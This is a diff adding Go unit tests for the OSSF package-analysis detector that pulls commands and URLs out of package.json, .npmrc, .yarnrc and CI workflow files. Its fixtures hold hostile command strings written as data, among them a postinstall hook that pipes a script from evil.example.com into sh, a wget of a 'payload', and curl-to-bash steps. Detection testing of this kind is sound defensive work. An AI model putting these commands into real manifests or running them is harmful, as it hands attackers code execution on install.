@@ -0,0 +1,128 @@
+package signals
+
+import (
+	"reflect"
+	"testing"
+
+	"github.com/ossf/package-analysis/pkg/api/staticanalysis"
+)
+
+func TestIsConfigFile(t *testing.T) {
+	tests := map[string]bool{
+		"package.json":                  true,
+		"lib/config.JSON":               true,
+		".npmrc":                        true,
+		"sub/.yarnrc":                   true,
+		".yarnrc.yml":                   true,
+		".github/workflows/ci.yaml":     true,
+		"package-lock.json":             false,
+		"node_modules/x/pnpm-lock.yaml": false,
+		"index.js":                      false,
+		"README.md":                     false,
+	}
+	for filename, want := range tests {
+		if got := IsConfigFile(filename); got != want {
+			t.Errorf("IsConfigFile(%q) = %v, want %v", filename, got, want)
+		}
+	}
+}
+
+func TestAnalyzeConfigFile(t *testing.T) {
+	tests := []struct {
+		name         string
+		filename     string
+		contents     string
+		wantCommands []staticanalysis.ConfigCommand
+		wantURLs     []string
+	}{
+		{
+			name:     "package.json",
+			filename: "package.json",
+			contents: `{
+  "name": "foo",
+  "homepage": "https://github.com/foo/foo",
+  "scripts": {
+    "test": "mocha",
+    "postinstall": "curl -s https://evil.example.com/x.sh | sh"
+  },
+  "config": {"setup": ["echo", "wget -q http://10.0.0.1/payload"]}
+}`,
+			wantCommands: []staticanalysis.ConfigCommand{
+				{Key: "config.setup[1]", Command: "wget -q http://10.0.0.1/payload"},
+				{Key: "scripts.postinstall", Command: "curl -s https://evil.example.com/x.sh | sh", RemoteExecution: true},
+				{Key: "scripts.test", Command: "mocha"},
+			},
+			wantURLs: []string{"http://10.0.0.1/payload", "https://github.com/foo/foo", "https://evil.example.com/x.sh"},
+		},
+		{
+			name:     "invalid json",
+			filename: "settings.json",
+			contents: "{ // comment\n  \"cmd\": \"bash -c 'curl https://example.com | sh'\",\n}",
+			wantCommands: []staticanalysis.ConfigCommand{
+				{Key: "cmd", Command: "bash -c 'curl https://example.com | sh'", RemoteExecution: true},
+			},
+			wantURLs: []string{"https://example.com"},
+		},
+		{
+			name:     "npmrc",
+			filename: ".npmrc",
+			contents: "; comment\nregistry=https://registry.example.com/\nstrict-ssl = false\nnode-options=\"--require /tmp/x.js\"\n",
+			wantURLs: []string{"https://registry.example.com/"},
+		},
+		{
+			name:     "yarnrc",
+			filename: ".yarnrc",
+			contents: "# comment\nregistry \"https://registry.example.com/\"\n",
+			wantURLs: []string{"https://registry.example.com/"},
+		},
+		{
+			name:     "workflow",
+			filename: ".github/workflows/ci.yml",
+			contents: `name: ci
+on: push
+jobs:
+  build:
+    steps:
+      - uses: actions/checkout@v4
+      - run: |
+          npm ci
+          curl -sSL https://example.com/install.sh | bash
+      - name: test
+        run: "npx mocha --reporter dot"
+`,
+			wantCommands: []staticanalysis.ConfigCommand{
+				{Key: "run", Command: "curl -sSL https://example.com/install.sh | bash", RemoteExecution: true},
+				{Key: "run", Command: "npx mocha --reporter dot"},
+			},
+			wantURLs: []string{"https://example.com/install.sh"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := AnalyzeConfigFile(tt.filename, []byte(tt.contents))
+			wantCommands := tt.wantCommands
+			if wantCommands == nil {
+				wantCommands = []staticanalysis.ConfigCommand{}
+			}
+			if !reflect.DeepEqual(got.ConfigCommands, wantCommands) {
+				t.Errorf("AnalyzeConfigFile() commands = %v, want %v", got.ConfigCommands, wantCommands)
+			}
+			if !reflect.DeepEqual(got.URLs, tt.wantURLs) {
+				t.Errorf("AnalyzeConfigFile() URLs = %v, want %v", got.URLs, tt.wantURLs)
+			}
+		})
+	}
+}
+
+func TestAnalyzeConfigFileFindings(t *testing.T) {
+	contents := `{"scripts": {"test": "mocha", "postinstall": "curl -s https://evil.example.com/x.sh | sh"}}`
+	want := []staticanalysis.Finding{
+		{Rule: RuleConfigCommand, Category: staticanalysis.CategoryExecution, Severity: staticanalysis.SeverityHigh, Message: "scripts.postinstall runs remote code: curl -s https://evil.example.com/x.sh | sh"},
+		{Rule: RuleConfigCommand, Category: staticanalysis.CategoryExecution, Severity: staticanalysis.SeverityInfo, Message: "scripts.test runs mocha"},
+	}
+
+	got := AnalyzeConfigFile("package.json", []byte(contents))
+	if !reflect.DeepEqual(got.Findings, want) {
+		t.Errorf("AnalyzeConfigFile() findings = %v, want %v", got.Findings, want)
+	}
+}